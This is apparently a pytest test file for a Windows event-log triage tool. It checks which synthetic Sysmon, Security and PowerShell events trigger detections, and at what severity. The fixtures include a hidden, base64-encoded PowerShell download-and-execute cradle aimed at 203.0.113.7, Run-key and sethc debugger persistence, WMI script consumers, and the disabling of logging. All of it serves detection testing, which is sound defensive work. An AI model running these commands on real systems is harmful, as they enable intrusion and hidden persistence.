# ruff: noqa: E501 - events are long
"""Each kind of event, as its source writes it: what is told of it, and what is not."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from tests.evtx.events import SECURITY, classic, event, events, indicators, judged, sysmon, told
from triage.events import one_log
from triage.events.reader import Raw
from triage.model import Gap, Why
from triage.model.windows import EventRecord

NTDLL, BASE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24",
    "C:\\Windows\\System32\\KERNELBASE.dll+2126e",
)
CLR = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll+1cc7"
TOOL, NOTEPAD = "C:\\Users\\u\\Downloads\\tool.exe", "C:\\Windows\\System32\\notepad.exe"
DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"
ENCODED = base64.b64encode(DOWNLOAD.encode("utf-16-le")).decode()
RUN = "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
TASK = (
    '<?xml version="1.0" encoding="UTF-16"?><Task><Actions><Exec><Command>{}</Command>'
    "<Arguments>{}</Arguments></Exec></Actions></Task>"
)
BINDING = (
    'Binding EventFilter: instance of __EventFilter {{ Name = "u"; Query = "SELECT * FROM'
    ' __InstanceModificationEvent WITHIN 60"; }};  Perm. Consumer: instance of'
    ' ActiveScriptEventConsumer {{ Name = "u"; ScriptText = "{}"; ScriptingEngine ='
    ' "VBScript"; }};'
)


def start(image: str, command: str, parent: str, **more: Any) -> Raw:
    return sysmon(1, Image=image, CommandLine=command, ParentImage=parent, ProcessId=10, **more)


def access(source: str, target: str, mask: str, *frames: str) -> Raw:
    trace = "|".join(frames)
    return sysmon(10, SourceImage=source, TargetImage=target, GrantedAccess=mask, CallTrace=trace)


SYSTEM = "C:\\Windows\\System32\\"
FIRES: list[tuple[str, str, Raw]] = [
    ("event-remote-thread", "high", sysmon(8, SourceImage=TOOL, TargetImage=NOTEPAD,
     StartAddress="0x1A0000", StartModule="", StartFunction="")),
    ("event-remote-thread", "high", sysmon(8, SourceImage=TOOL, TargetImage=NOTEPAD,
     StartAddress="0x1A0000", StartModule="-", StartFunction="-")),
    ("event-remote-thread", "medium", sysmon(8, SourceImage=TOOL, TargetImage=NOTEPAD,
     StartModule=SYSTEM + "kernel32.dll", StartFunction="LoadLibraryA")),
    ("event-unbacked-caller", "high", access(TOOL, NOTEPAD, "0x1fffff", NTDLL, BASE,
     "UNKNOWN(0000000002B51606)", "UNKNOWN(0000000002B51F41)")),
    ("event-unbacked-caller", "medium", access(TOOL, NOTEPAD, "0x1410", NTDLL, BASE,
     "UNKNOWN(0000000002B51606)")),
    ("event-unbacked-caller", "high", access(TOOL, NOTEPAD, "0x1fffff", TOOL + "+1a2b")),
    ("event-injection-rights", "medium", access(TOOL, "C:\\Program Files\\V\\v.exe", "0x147a", NTDLL,
     BASE, TOOL + "+1a2b")),
    ("event-injection-rights", "medium", access(TOOL, SYSTEM + "conhost.exe", "0x1fffff", NTDLL,
     BASE, TOOL + "+1a2b")),
    ("event-lsass-access", "medium", access(TOOL, SYSTEM + "lsass.exe", "0x1010", NTDLL, BASE,
     TOOL + "+1a2b")),
    ("event-process-tampering", "high", sysmon(25, Image=NOTEPAD, Type="Image is replaced")),
    ("event-managed-host", "high", sysmon(7, Image=NOTEPAD, Signed="true",
     ImageLoaded="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll")),
    ("event-managed-host", "high", sysmon(7, Image=TOOL, Signed="true", ImageLoaded="C:\\Windows\\"
     "assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\System.Management.Automation.ni.dll")),
    ("event-managed-host", "high", sysmon(11, Image=NOTEPAD, TargetFilename="C:\\Users\\u\\AppData\\"
     "Local\\Microsoft\\CLR_v4.0\\UsageLogs\\notepad.exe.log")),
    ("event-managed-host", "medium", sysmon(17, Image=TOOL,
     PipeName="\\PSHost.133602382690000000.4242.DefaultAppDomain.tool")),
    ("event-foreign-module", "high", sysmon(7, Image=SYSTEM + "lsass.exe", Signed="false",
     ImageLoaded="\\\\203.0.113.7\\s\\a.dll")),
    ("event-foreign-module", "medium", sysmon(7, Image=SYSTEM + "mmc.exe", Signed="false",
     ImageLoaded="C:\\Users\\u\\AppData\\Local\\Temp\\a.dll")),
    ("event-foreign-module", "medium", sysmon(7, Image="C:\\ProgramData\\V\\v.exe", Signed="false",
     ImageLoaded="C:\\ProgramData\\V\\version.dll")),
    ("event-foreign-module", "low", sysmon(7, Image="C:\\ProgramData\\V\\v.exe", Signed="false",
     ImageLoaded="C:\\ProgramData\\V\\v_core.dll")),
    ("event-pipe", "medium", sysmon(18, EventType="ConnectPipe", Image="System", ProcessId=4,
     PipeName="\\46a676ab7f179e511e30dd2dc41bd388")),
    ("event-script-engine", "medium", sysmon(7, Image=SYSTEM + "wbem\\WMIC.exe", Signed="true",
     ImageLoaded=SYSTEM + "jscript.dll")),
    ("event-command", "high", start(SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
     f"powershell -nop -w hidden -enc {ENCODED}", SYSTEM + "cmd.exe")),
    ("event-command", "medium", start(SYSTEM + "rundll32.exe",
     "rundll32.exe zipfldr.dll,RouteTheCall c:\\windows\\system32\\calc.exe", SYSTEM + "cmd.exe")),
    ("event-odd-child", "high", start(SYSTEM + "cmd.exe", "cmd /c dir",
     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")),
    ("event-odd-child", "medium", start(SYSTEM + "cmd.exe", "cmd.exe", SYSTEM + "FXSSVC.exe")),
    ("event-odd-child", "medium", start(SYSTEM + "cmd.exe", "cmd.exe /Q /c whoami",
     SYSTEM + "wbem\\WmiPrvSE.exe")),
    ("event-odd-child", "high", start(SYSTEM + "cmd.exe", "cmd /c x", SYSTEM + "conhost.exe")),
    ("event-bare-process", "high", start(SYSTEM + "wermgr.exe", SYSTEM + "wermgr.exe",
     SYSTEM + "rundll32.exe")),
    ("event-false-parent", "high", start(SYSTEM + "svchost.exe", "svchost.exe -k netsvcs", TOOL)),
    ("event-renamed-program", "medium", start("C:\\Users\\Public\\a.exe", "a.exe /c whoami",
     SYSTEM + "cmd.exe", OriginalFileName="Cmd.Exe")),
    ("event-registry-place", "medium", sysmon(13, EventType="SetValue", TargetObject=RUN, Image=TOOL,
     Details="C:\\Users\\u\\AppData\\Roaming\\a.exe")),
    ("event-registry-place", "high", sysmon(13, EventType="SetValue", Image=TOOL, Details="x.exe",
     TargetObject="HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
     "\\sethc.exe\\Debugger")),
    ("event-registry-place", "medium", start(SYSTEM + "reg.exe", "reg add HKCU\\Software\\Microsoft\\"
     "Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\Public\\a.exe /f", SYSTEM + "cmd.exe")),
    ("event-command", "medium", start(SYSTEM + "wbem\\WMIC.exe", "wmic /namespace:\\\\root\\subscription PATH"
     " CommandLineEventConsumer CREATE Name=\"u\", CommandLineTemplate=\"c:\\a.exe\"", SYSTEM + "cmd.exe")),
    ("event-registry-guard", "high", sysmon(13, EventType="SetValue", Details="DWORD (0x00000000)",
     Image=SYSTEM + "reg.exe", TargetObject="HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\"
     "ScriptBlockLogging\\EnableScriptBlockLogging")),
    ("event-registry-guard", "medium", sysmon(12, EventType="DeleteValue", Image=SYSTEM + "reg.exe",
     TargetObject="HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\Environment\\__PSLockdownPolicy")),
    ("event-registry-payload", "high", sysmon(13, EventType="SetValue", Image=TOOL,
     TargetObject="HKU\\S-1-5-21-1-2-3-1001\\Software\\Vendor\\Code", Details=ENCODED * 2)),
    ("event-registry-payload", "high", event(SECURITY, 4657, {"ObjectName": "\\REGISTRY\\USER\\S-1-5-21-1"
     "-2-3-1001\\Software\\Vendor", "ObjectValueName": "Code", "OperationType": "%%1904",
     "NewValue": ENCODED * 2, "ProcessName": TOOL, "ProcessId": "0x1f4"})),
    ("event-wmi-consumer", "high", sysmon(20, Operation="Created", Name=' "u"', Type="Script",
     Destination=' "CreateObject(\\"WScript.Shell\\").Run \\"calc\\""')),
    ("event-wmi-consumer", "high", event("Microsoft-Windows-WMI-Activity", 5861,
     {"Operation_ESStoConsumerBinding": {"Namespace": "//./root/subscription", "ESS": "u",
      "CONSUMER": "ActiveScriptEventConsumer=\"u\"", "PossibleCause":
      BINDING.format("CreateObject(\\\"WScript.Shell\\\").Run \\\"calc\\\"")}}, section="UserData")),
    ("event-wmi-subscription", "medium", sysmon(21, Consumer=' "CommandLineEventConsumer.Name=\\"u\\""',
     Filter=' "__EventFilter.Name=\\"u\\""', Operation="Created")),
    ("event-wmi-provider", "medium", event("Microsoft-Windows-WMI-Activity", 5857,
     {"Operation_StartedOperational": {"ProviderName": "p", "HostProcess": "wmiprvse.exe",
      "ProviderPath": "C:\\Users\\Public\\p.dll"}}, section="UserData")),
    ("event-service", "high", event("Service Control Manager", 7045, {"ServiceName": "abcdef",
     "ImagePath": "%COMSPEC% /c echo abcdef > \\\\.\\pipe\\abcdef", "ServiceType": "user mode service"})),
    ("event-command", "high", event(SECURITY, 4697, {"ServiceName": "u",
     "ServiceFileName": f"powershell -nop -w hidden -enc {ENCODED}"})),
    ("event-command", "high", event(SECURITY, 4698, {"TaskName": "\\u", "TaskContent":
     TASK.format("powershell.exe", f"-nop -w hidden -enc {ENCODED}")})),
    ("event-task", "medium", event(SECURITY, 4702, {"TaskName": "\\u", "TaskContentNew":
     TASK.format("C:\\Users\\Public\\a.exe", "")})),
    ("event-log-cleared", "medium", event("Microsoft-Windows-Eventlog", 1102,
     {"LogFileCleared": {"SubjectUserName": "admin"}}, section="UserData")),
    ("event-detection", "high", event("Microsoft-Windows-Windows Defender", 1116,
     {"Threat Name": "Trojan:PowerShell/X", "Severity Name": "Severe", "Path": "amsi:_powershell.exe"})),
    ("event-defender-change", "medium", event("Microsoft-Windows-Windows Defender", 5007,
     {"Old Value": "", "New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0"})),
    ("event-transfer", "medium", event("Microsoft-Windows-Bits-Client", 59,
     {"name": "j", "url": "http://203.0.113.7/a.exe"})),
    ("event-blocked-code", "medium", event("Microsoft-Windows-CodeIntegrity", 3033,
     {"FileNameBuffer": "\\Device\\HarddiskVolume2\\Users\\Public\\a.dll",
      "ProcessNameBuffer": "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe"})),
    ("event-managed-host", "high", classic(".NET Runtime", 1026,
     "Application: notepad.exe\nFramework Version: v4.0.30319\nDescription: unhandled exception")),
    ("event-crash", "medium", classic("Windows Error Reporting", 1001, "0", "4", "BEX64", "n", "0",
     "spoolsv.exe", "10.0", "x", "StackHash_0a9e")),
    ("event-command", "high", classic("PowerShell", 400, "Available", "None", "\tNewEngineState=Available"
     f"\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1\r\n\tHostApplication=powershell -w hidden -enc {ENCODED}"
     "\r\n\tEngineVersion=5.1")),
    ("event-engine-downgrade", "medium", classic("PowerShell", 400, "Available", "None",
     "\tHostName=ConsoleHost\r\n\tHostVersion=5.1\r\n\tHostApplication=powershell -version 2\r\n\t"
     "EngineVersion=2.0")),
    ("event-command-store", "high", event("Microsoft-Windows-Shell-Core", 9707,
     {"Command": "powershell -w hidden -c \"IEX (gp HKCU:\\Software\\Vendor).Code\""})),
    ("event-registry-access", "medium", event(SECURITY, 4663, {"ObjectType": "Key", "ObjectName":
     "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "AccessMask": "0x2",
     "ProcessName": SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "ProcessId": "0x1f4"})),
    ("event-registry-access", "medium", event(SECURITY, 4656, {"ObjectType": "Key", "ObjectName":
     "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\"
     "sethc.exe", "AccessMask": "0x20006", "ProcessName": TOOL, "ProcessId": "0x1f4"})),
    ("event-registry-access", "low", event(SECURITY, 4663, {"ObjectType": "Key", "ObjectName":
     "\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001\\Software\\Vendor", "AccessMask": "0x1", "ProcessName": TOOL})),
    ("event-injection-rights", "medium", event(SECURITY, 4656, {"ObjectType": "Process", "ObjectName":
     "\\Device\\HarddiskVolume2\\Windows\\explorer.exe", "AccessMask": "0x2a", "ProcessName": TOOL})),
    ("event-wmi-subscription", "medium", event("Microsoft-Windows-WMI-Activity", 5858,
     {"Operation_ClientFailure": {"ClientMachine": "PC02", "User": "D\\u", "ClientProcessId": 4242,
      "Operation": "Start IWbemServices::PutInstance - root\\subscription : CommandLineEventConsumer",
      "ResultCode": "0x80041003", "PossibleCause": "Unknown"}}, section="UserData")),
    ("event-wmi-subscription", "low", event("Microsoft-Windows-WMI-Activity", 5858,
     {"Operation_ClientFailure": {"ClientMachine": "PC02", "ClientProcessId": 4242, "Operation":
      "Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Process::Create"}}, section="UserData")),
    ("event-blocked-code", "low", event("Microsoft-Windows-AppLocker", 8004,
     {"RuleAndFileData": {"PolicyName": "EXE", "FilePath": "%OSDRIVE%\\USERS\\U\\A.EXE", "TargetUser": "S-1-5-21",
      "FullFilePath": "C:\\Users\\u\\a.exe"}}, section="UserData")),
    ("event-detection", "medium", event("Microsoft-Windows-Windows Defender", 1117,
     {"Threat Name": "HackTool:Win32/X", "Severity Name": "High", "Path": "file:_C:\\Users\\u\\a.exe",
      "Action Name": "Quarantine"})),
    ("event-defender-change", "medium", event("Microsoft-Windows-Windows Defender", 5001,
     {"Product Name": "Microsoft Defender Antivirus"})),
    ("event-crash", "low", classic("Application Error", 1000, "svchost.exe", "10.0", "5", "unknown", "0.0",
     "0", "c0000005", "00000000001a2b3c")),
    ("event-command", "high", event("Microsoft-Windows-PowerShell", 4103, {"Payload": "CommandInvocation(Out-Null)",
     "ContextInfo": f"        Host Application = powershell -nop -w hidden -enc {ENCODED}\r\n"
     "        Engine Version = 5.1"})),
    ("event-stream", "medium", sysmon(15, Image=TOOL, TargetFilename="C:\\Users\\u\\a.txt:run.vbs")),
    ("event-connection", "medium", sysmon(3, Initiated="false", SourceIp="203.0.113.7", SourcePort=9,
     Image=SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", DestinationIp="10.0.0.1",
     DestinationPort=4444)),
]  # fmt: skip


@pytest.mark.parametrize(
    ("indicator", "severity", "raw"), FIRES, ids=[f"{n}-{i}" for n, (i, _, _) in enumerate(FIRES)]
)
def test_told(indicator: str, severity: str, raw: Raw) -> None:
    assert indicators(judged(raw)).get(indicator) == severity


SILENT: list[tuple[str, Raw]] = [
    ("a command that asks the Registry", start(SYSTEM + "reg.exe",
     "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", SYSTEM + "cmd.exe")),
    ("a command that writes an ordinary value", start(SYSTEM + "reg.exe",
     "reg add HKCU\\Software\\Vendor /v Theme /d dark /f", SYSTEM + "cmd.exe")),
    ("a start of a program in its own folder", start("C:\\Program Files\\V\\v.exe", '"v.exe" --tray',
     "C:\\Windows\\explorer.exe", OriginalFileName="v.exe", Product="V")),
    ("a shell that somebody opened", start(SYSTEM + "cmd.exe", "cmd.exe", "C:\\Windows\\explorer.exe")),
    ("svchost under the service manager", start(SYSTEM + "svchost.exe",
     SYSTEM + "svchost.exe -k netsvcs -p", SYSTEM + "services.exe")),
    ("a thread that csrss starts in ntdll", sysmon(8, SourceImage=SYSTEM + "csrss.exe",
     TargetImage=NOTEPAD, StartModule=SYSTEM + "ntdll.dll", StartFunction="CtrlRoutine")),
    ("code that .NET compiled", access("C:\\Program Files\\V\\v.exe", NOTEPAD, "0x1fffff", NTDLL, CLR,
     "UNKNOWN(00D814D3)", "C:\\Windows\\assembly\\NativeImages_v4\\System.ni.dll+5511d")),
    ("the task manager looks", access(SYSTEM + "taskmgr.exe", NOTEPAD, "0x1410", NTDLL, BASE)),
    ("Windows' own library in Windows' own program", sysmon(7, Image=SYSTEM + "mmc.exe", Signed="true",
     ImageLoaded=SYSTEM + "winmm.dll")),
    (".NET where it belongs", sysmon(7, Image=SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
     Signed="true", ImageLoaded="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll")),
    ("a Run value for a program in its own folder", sysmon(13, EventType="SetValue", TargetObject=RUN,
     Details='"C:\\Program Files\\V\\v.exe" /background', Image=SYSTEM + "msiexec.exe")),
    ("script block logging turned on", sysmon(13, EventType="SetValue", Details="DWORD (0x00000001)",
     Image=SYSTEM + "svchost.exe", TargetObject="HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell"
     "\\ScriptBlockLogging\\EnableScriptBlockLogging")),
    ("the mark of a download", sysmon(15, Image=TOOL, Contents="[ZoneTransfer]",
     TargetFilename="C:\\Users\\u\\a.zip:Zone.Identifier")),
    ("the service control manager's own subscription", event("Microsoft-Windows-WMI-Activity", 5861,
     {"Operation_ESStoConsumerBinding": {"ESS": "SCM Event Log Filter", "CONSUMER":
      'NTEventLogEventConsumer="SCM Event Log Consumer"', "PossibleCause":
      "instance of NTEventLogEventConsumer"}}, section="UserData")),
    ("a driver of Defender's in the Registry", sysmon(13, EventType="SetValue", Image=SYSTEM + "services.exe",
     TargetObject="HKLM\\System\\CurrentControlSet\\Services\\MpKsl1\\ImagePath", Details="\\??\\C:\\ProgramData\\"
     "Microsoft\\Windows Defender\\Definition Updates\\{9F21B1C2-64B5-46BA-B8AD-3748F06F0E0B}\\MpKsl1.sys")),
    ("a service host that Defender empties", start(SYSTEM + "svchost.exe", SYSTEM + "svchost.exe",
     "C:\\Program Files\\Windows Defender\\MsMpEng.exe")),
    ("a pipe of its own that a program made", sysmon(17, EventType="CreatePipe", ProcessId=700,
     Image="C:\\Program Files\\V\\v.exe", PipeName="\\46a676ab7f179e511e30dd2dc41bd388")),
    ("a service's pipe that was opened from afar", sysmon(18, EventType="ConnectPipe", Image="System",
     ProcessId=4, PipeName="\\svcctl")),
    ("a class of the shell's for another program", start(SYSTEM + "rundll32.exe", SYSTEM + "rundll32.exe shell32.dll,"
     "SHCreateLocalServerRunDll {995C996E-D918-4a8c-A302-45719A6F4EA7} -Embedding", SYSTEM + "svchost.exe")),
    ("a vendor's service", event("Service Control Manager", 7045, {"ServiceName": "V",
     "ImagePath": '"C:\\Program Files\\V\\v.exe"', "ServiceType": "user mode service"})),
    ("a signature driver of Defender's", event("Service Control Manager", 7045, {"ServiceName":
     "MpKsl1", "ImagePath": "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{1}\\MpKsl1.sys"})),
    ("a task of Windows", event(SECURITY, 4702, {"TaskName": "\\Microsoft\\x", "TaskContentNew":
     TASK.format("%systemroot%\\system32\\usoclient.exe", "StartScan")})),
    ("an update by BITS", event("Microsoft-Windows-Bits-Client", 59,
     {"name": "u", "url": "https://dl.delivery.mp.microsoft.com/filestreamingservice/a.exe"})),
    ("an installer that asks for a key that is audited", event(SECURITY, 4663, {"ObjectType": "Key",
     "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Vendor", "AccessMask": "0x2",
     "ProcessName": SYSTEM + "msiexec.exe"})),
    ("a file that is audited", event(SECURITY, 4663, {"ObjectType": "File", "ObjectName": "C:\\a.txt",
     "AccessMask": "0x2", "ProcessName": TOOL})),
    ("a query that failed", event("Microsoft-Windows-WMI-Activity", 5858, {"Operation_ClientFailure":
     {"ClientMachine": "PC01", "Operation": "Start IWbemServices::ExecQuery - root\\SecurityCenter2 : select * from "
      "AntiVirusProduct", "ResultCode": "0x80041010"}}, section="UserData")),
    ("a notification query of an agent that failed", event("Microsoft-Windows-WMI-Activity", 5858,
     {"Operation_ClientFailure": {"Operation": "Start IWbemServices::ExecNotificationQuery - root\\ccm : select * from "
      "CCM_Event", "ResultCode": "0x80041032"}}, section="UserData")),
    ("a driver of Windows that is not signed as wanted", event("Microsoft-Windows-CodeIntegrity", 3033,
     {"FileNameBuffer": "\\Device\\HarddiskVolume2\\Windows\\System32\\a.dll",
      "ProcessNameBuffer": "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe"})),
    ("a program that AppLocker would let run", event("Microsoft-Windows-AppLocker", 8003,
     {"RuleAndFileData": {"FilePath": "%PROGRAMFILES%\\V\\V.EXE", "FullFilePath": "C:\\Program Files\\V\\v.exe"}},
     section="UserData")),
    ("a signature update of Defender", event("Microsoft-Windows-Windows Defender", 5007,
     {"Old Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\ASSignatureApplied = 1",
      "New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\ASSignatureApplied = 2"})),
    (".NET in a program of its own that failed", classic(".NET Runtime", 1026,
     "Application: v.exe\nFramework Version: v4.0.30319\nDescription: unhandled exception")),
    ("a report of a program that hung", classic("Windows Error Reporting", 1001, "0", "5", "AppHangB1", "n", "0",
     "v.exe", "1.0", "x", "y")),
    ("a crash in a library", classic("Application Error", 1000, "app.exe", "1", "0", "lib.dll", "1")),
    ("an ordinary engine", classic("PowerShell", 400, "Available", "None", "\tHostName=ConsoleHost\r\n\t"
     "HostVersion=5.1\r\n\tHostApplication=powershell.exe\r\n\tEngineVersion=5.1")),
    ("a log on", event(SECURITY, 4624, {"TargetUserName": "u", "LogonType": 3, "IpAddress": "-"})),
    ("a service that runs", event("Service Control Manager", 7036, {"param1": "Windows Event Log",
     "param2": "running", "Binary": "4500760065006E0074004C006F0067002F0034000000"})),
]  # fmt: skip


@pytest.mark.parametrize(("what", "raw"), SILENT, ids=[what for what, _ in SILENT])
def test_not_told(what: str, raw: Raw) -> None:
    assert events(raw) == []


def test_the_event_log_service_that_stopped() -> None:
    raw = event("Service Control Manager", 7036, {"param1": "Ereignisprotokoll", "param2": "beendet",
                "Binary": "4500760065006E0074004C006F0067002F0031000000"})  # fmt: skip
    assert indicators(judged(raw)) == {"event-log-cleared": "medium"}


def test_events_that_say_the_same_are_one_subject() -> None:
    raws = [
        sysmon(10, record, SourceImage=TOOL, TargetImage=f"{SYSTEM}p{record}.exe",
               GrantedAccess="0x1410", CallTrace=f"{NTDLL}|{BASE}|UNKNOWN({record:016x})")
        for record in range(1, 60)
    ]  # fmt: skip
    (one,) = events(*raws)
    assert one.count == 59
    assert one.records == tuple(range(1, 33))
    assert len(one.texts("target")) == 8


def test_other_access_is_another_subject() -> None:
    one = access(TOOL, NOTEPAD, "0x1410", NTDLL, BASE, "UNKNOWN(1)")
    other = access(TOOL, NOTEPAD, "0x1fffff", NTDLL, BASE, "UNKNOWN(1)")
    assert len(events(one, other)) == 2


def test_a_log_that_takes_too_long_is_told_as_far_as_it_was_read(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(one_log, "_SECONDS", -1.0)
    raws = [FIRES[0][2], *(event("P", 1, {"a": n}, record=n) for n in range(2, 400))]
    found = told(*raws)
    assert [item.act for item in found if isinstance(item, EventRecord)] == ["remote-thread"]
    assert [item.why for item in found if isinstance(item, Gap)] == [Why.TIMEOUT]
